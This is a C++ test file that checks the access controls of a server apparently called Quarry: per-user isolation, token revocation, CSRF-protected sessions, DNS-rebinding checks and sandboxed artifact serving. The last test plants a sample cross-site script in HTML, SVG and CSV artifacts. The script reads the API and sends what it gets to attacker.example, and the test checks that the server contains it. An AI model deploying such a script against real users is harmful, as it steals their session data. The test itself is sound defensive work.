// Who may do what: tokens, browser sessions with their CSRF check, users who see only their
// own conversations (another user's id is as unknown as a missing one, on every route that
// takes one), tokens removed while the server runs, and a server without tokens that answers
// only on loopback.
#include <gtest/gtest.h>

#include "api_environment.h"

namespace quarry::testing {
namespace {

// Every route that takes a conversation or an artifact id, as (method, path, body).
std::vector<std::tuple<std::string, std::string, std::string>> routes_with_ids(
    const std::string& conversation, int64_t artifact) {
  const std::string base = "/api/v1/conversations/" + conversation;
  return {{"GET", base, ""},
          {"DELETE", base, ""},
          {"POST", base + "/messages", R"({"content": "what is in there?"})"},
          {"POST", base + "/cells", R"({"kind": "sql_query", "code": "SELECT 1"})"},
          {"GET", base + "/events?after=1-0", ""},
          {"POST", base + "/cancel", ""},
          {"GET", base + "/artifacts", ""},
          {"GET", fmt::format("/api/v1/artifacts/{}", artifact), ""},
          {"GET", fmt::format("/api/v1/artifacts/{}/table", artifact), ""},
          {"GET", "/api/v1/execs?conversation=" + conversation, ""}};
}

TEST(Access, EachUserSeesOnlyTheirOwn) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  ApiClient alice(server.url()), bob(server.url());
  alice.use_token(server.token("alice"));
  bob.use_token(server.token("bob"));
  ASSERT_EQ(alice.get("/api/v1/session").json["user"], server.user("alice"));

  const auto id = alice.create_conversation("alice's");
  auto cell =
      alice.cell(id, "python", "open('/home/sandbox/outputs/secret.csv', 'w').write('a\\n1\\n')");
  auto artifacts = of_type(cell.events, "artifact");
  ASSERT_EQ(artifacts.size(), 1u);
  const int64_t artifact = artifacts[0].data["artifact"]["id"];
  const auto bobs = bob.create_conversation("bob's");

  // For bob, alice's conversation and artifact do not exist: the same answer as for ids that
  // exist for no one. Nothing of them changes.
  const auto theirs = routes_with_ids(id, artifact);
  const auto no_ones = routes_with_ids("0123456789ab", 99999999);
  for (size_t i = 0; i < theirs.size(); ++i) {
    const auto& [method, path, body] = theirs[i];
    SCOPED_TRACE(method + " " + path);
    std::vector<HttpHeader> headers;
    if (!body.empty()) headers.push_back({"Content-Type", "application/json"});
    auto refused = bob.send(method, path, body, headers);
    EXPECT_EQ(refused.status, 404) << refused.body;
    EXPECT_EQ(refused.json["error"]["code"], "not_found");
    auto unknown = bob.send(method, std::get<1>(no_ones[i]), body, headers);
    EXPECT_EQ(unknown.status, 404);
    EXPECT_EQ(unknown.json["error"]["code"], "not_found");
  }
  EXPECT_EQ(alice.get("/api/v1/conversations/" + id).status, 200);
  EXPECT_EQ(alice.get(fmt::format("/api/v1/artifacts/{}", artifact)).status, 200);

  // Lists and metering are per user; the load overview counts everyone's sandboxes.
  auto listed = bob.get("/api/v1/conversations");
  ASSERT_EQ(listed.json["conversations"].size(), 1u);
  EXPECT_EQ(listed.json["conversations"][0]["id"], bobs);
  EXPECT_EQ(bob.get("/api/v1/execs").json["totals"]["steps"], 0);
  EXPECT_EQ(alice.get("/api/v1/execs").json["totals"]["steps"], 1);
  auto sandboxes = bob.get("/api/v1/sandboxes");
  EXPECT_TRUE(sandboxes.json["sandboxes"].empty());
  EXPECT_EQ(sandboxes.json["all_by_state"].value("idle", 0), 1);
  EXPECT_EQ(alice.get("/api/v1/sandboxes").json["sandboxes"].size(), 1u);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, WithoutAValidTokenOnlyThePublicRoutesAnswer) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  ApiClient anyone(server.url());
  for (const char* path : {"/healthz", "/readyz", "/api/openapi.json", "/"}) {
    EXPECT_EQ(anyone.get(path).status, 200) << path;
  }
  for (const char* path : {"/api/v1/conversations", "/api/v1/info", "/api/v1/execs",
                           "/api/v1/sandboxes", "/api/v1/session"}) {
    SCOPED_TRACE(path);
    auto refused = anyone.get(path);
    EXPECT_EQ(refused.status, 401);
    EXPECT_EQ(refused.json["error"]["code"], "unauthorized");
    EXPECT_EQ(refused.header("WWW-Authenticate"), "Bearer realm=\"quarry\"");
  }
  auto wrong = anyone.get("/api/v1/conversations", {{"Authorization", "Bearer qry_not_a_token"}});
  EXPECT_EQ(wrong.status, 401);
  auto basic = anyone.get("/api/v1/conversations", {{"Authorization", "Basic YWxpY2U6eA=="}});
  EXPECT_EQ(basic.status, 401);
  EXPECT_NE(basic.json["error"]["message"].get<std::string>().find("Bearer"), std::string::npos);

  // A token removed while the server runs stops working at once.
  ApiClient bob(server.url());
  bob.use_token(server.token("bob"));
  ASSERT_EQ(bob.get("/api/v1/conversations").status, 200);
  std::string output;
  ASSERT_EQ(server.quarry({"token", "rm", server.user("bob")}, &output), 0) << output;
  EXPECT_EQ(bob.get("/api/v1/conversations").status, 401);
  ApiClient alice(server.url());
  alice.use_token(server.token("alice"));
  EXPECT_EQ(alice.get("/api/v1/conversations").status, 200);

  // No token ever reaches the log.
  const std::string log = server.log();
  EXPECT_EQ(log.find(server.token("alice")), std::string::npos);
  EXPECT_EQ(log.find(server.token("bob")), std::string::npos);
  EXPECT_EQ(log.find("qry_not_a_token"), std::string::npos);
  EXPECT_NE(log.find("\"status\":401"), std::string::npos);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, ABrowserSessionNeedsItsCsrfTokenForChanges) {
  QuarryServer server({.tokens = true});
  ASSERT_TRUE(server.started());
  ApiClient browser(server.url());
  auto bad = browser.post("/api/v1/session", {{"token", "qry_wrong"}});
  EXPECT_EQ(bad.status, 401);
  auto signed_in = browser.post("/api/v1/session", {{"token", server.token("alice")}});
  ASSERT_EQ(signed_in.status, 201) << signed_in.body;
  const std::string cookie_header = signed_in.header("Set-Cookie");
  EXPECT_NE(cookie_header.find("HttpOnly"), std::string::npos);
  EXPECT_NE(cookie_header.find("SameSite=Strict"), std::string::npos);
  EXPECT_NE(cookie_header.find("Path=/"), std::string::npos);
  const std::string cookie = cookie_header.substr(0, cookie_header.find(';'));
  EXPECT_EQ(signed_in.json["user"], server.user("alice"));
  const std::string csrf = signed_in.json["csrf_token"];

  // Reading needs only the cookie; the page learns its CSRF token from the session.
  ApiClient reader(server.url());
  reader.use_cookie(cookie, "");
  auto session = reader.get("/api/v1/session");
  ASSERT_EQ(session.status, 200);
  EXPECT_EQ(session.json["method"], "cookie");
  EXPECT_EQ(session.json["csrf_token"], csrf);
  EXPECT_EQ(reader.get("/api/v1/conversations").status, 200);
  // A change without it is refused, and so is one with a wrong one.
  auto forged = reader.post("/api/v1/conversations", {{"title", "forged"}});
  EXPECT_EQ(forged.status, 403);
  EXPECT_EQ(forged.json["error"]["code"], "csrf_failed");
  auto wrong = reader.post("/api/v1/conversations", {{"title", "forged"}},
                           {{"X-CSRF-Token", std::string(csrf.size(), '0')}});
  EXPECT_EQ(wrong.status, 403);
  EXPECT_TRUE(reader.get("/api/v1/conversations").json["conversations"].empty());

  ApiClient page(server.url());
  page.use_cookie(cookie, csrf);
  EXPECT_EQ(page.post("/api/v1/conversations", {{"title", "from the page"}}).status, 201);
  // Not from another origin, even with the token.
  auto cross =
      page.post("/api/v1/conversations", {{"title", "x"}}, {{"Origin", "http://evil.example"}});
  EXPECT_EQ(cross.status, 403);
  EXPECT_EQ(cross.json["error"]["code"], "cross_origin");

  // Signing out ends the session.
  EXPECT_EQ(page.del("/api/v1/session").status, 204);
  EXPECT_EQ(reader.get("/api/v1/conversations").status, 401);
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

TEST(Access, WithoutTokensOnlyLoopbackIsServed) {
  {
    QuarryServer server;
    ASSERT_TRUE(server.started());
    ApiClient local(server.url());
    auto info = local.get("/api/v1/info");
    ASSERT_EQ(info.status, 200);
    EXPECT_EQ(info.json["user"], "local");
    EXPECT_EQ(info.json["auth"], "none");
    // A page whose name resolves to 127.0.0.1 (DNS rebinding) is not this machine.
    auto rebound = local.get("/api/v1/conversations", {{"Host", "attacker.example:8080"}});
    EXPECT_EQ(rebound.status, 403);
    EXPECT_EQ(rebound.json["error"]["code"], "host_not_allowed");
    EXPECT_EQ(local.get("/api/v1/conversations", {{"Host", "localhost:1"}}).status, 200);
    auto signin = local.post("/api/v1/session", {{"token", "anything"}});
    EXPECT_EQ(signin.status, 409);
    EXPECT_EQ(signin.json["error"]["code"], "no_tokens");
    EXPECT_EQ(server.stop(SIGTERM), 0);
  }
  // Listening beyond loopback without tokens is refused, saying what to do.
  {
    QuarryServer refused({.listen = "0.0.0.0:0", .expect_start = false});
    EXPECT_FALSE(refused.started());
    EXPECT_NE(refused.log().find("refusing to listen on"), std::string::npos) << refused.log();
    EXPECT_NE(refused.log().find("quarry token create"), std::string::npos);
  }
  // With tokens it may.
  QuarryServer open({.tokens = true, .listen = "0.0.0.0:0"});
  ASSERT_TRUE(open.started());
  ApiClient alice(open.url());
  alice.use_token(open.token("alice"));
  EXPECT_EQ(alice.get("/api/v1/conversations", {{"Host", "quarry.example:8080"}}).status, 200);
  EXPECT_EQ(open.stop(SIGTERM), 0);
}

TEST(Access, AHostileArtifactIsServedInASandboxOfItsOwn) {
  QuarryServer server;
  ASSERT_TRUE(server.started());
  ApiClient api(server.url());
  const auto id = api.create_conversation();
  // What model code could write to trick a viewer: a page and an SVG that try to read the API
  // with the viewer's session, and a CSV that is really a page.
  auto cell =
      api.cell(id, "python",
               "steal = '<script>fetch(\"/api/v1/conversations\").then(r => r.text())"
               ".then(t => fetch(\"https://attacker.example/?\" + t))</script>'\n"
               "open('/home/sandbox/outputs/chart.html', 'w').write('<html><body>' + steal)\n"
               "open('/home/sandbox/outputs/logo.svg', 'w').write("
               "'<svg xmlns=\"http://www.w3.org/2000/svg\">' + steal + '</svg>')\n"
               "open('/home/sandbox/outputs/table.csv', 'w').write('<html>' + steal)\n");
  auto saved = of_type(cell.events, "artifact");
  ASSERT_EQ(saved.size(), 3u);
  for (const auto& artifact : saved) {
    const std::string type = artifact.data["artifact"]["type"];
    SCOPED_TRACE(type);
    auto served = api.get(artifact.data["artifact"]["url"]);
    ASSERT_EQ(served.status, 200);
    const std::string policy = served.header("Content-Security-Policy");
    // An opaque origin of its own: no cookies, no reading the API, nothing fetched anywhere.
    EXPECT_TRUE(policy.starts_with("sandbox")) << policy;
    EXPECT_EQ(policy.find("allow-same-origin"), std::string::npos);
    EXPECT_NE(policy.find("default-src 'none'"), std::string::npos);
    EXPECT_EQ(policy.find("connect-src"), std::string::npos);  // so default-src 'none' holds
    EXPECT_EQ(served.header("X-Content-Type-Options"), "nosniff");
    // Scripts run only where a chart needs them; a CSV is never a page.
    EXPECT_EQ(policy.find("allow-scripts") != std::string::npos, type != "csv");
    EXPECT_EQ(served.header("Content-Type"), type == "html"  ? "text/html; charset=utf-8"
                                             : type == "svg" ? "image/svg+xml"
                                                             : "text/csv; charset=utf-8");
  }
  EXPECT_EQ(server.stop(SIGTERM), 0);
}

}  // namespace
}  // namespace quarry::testing
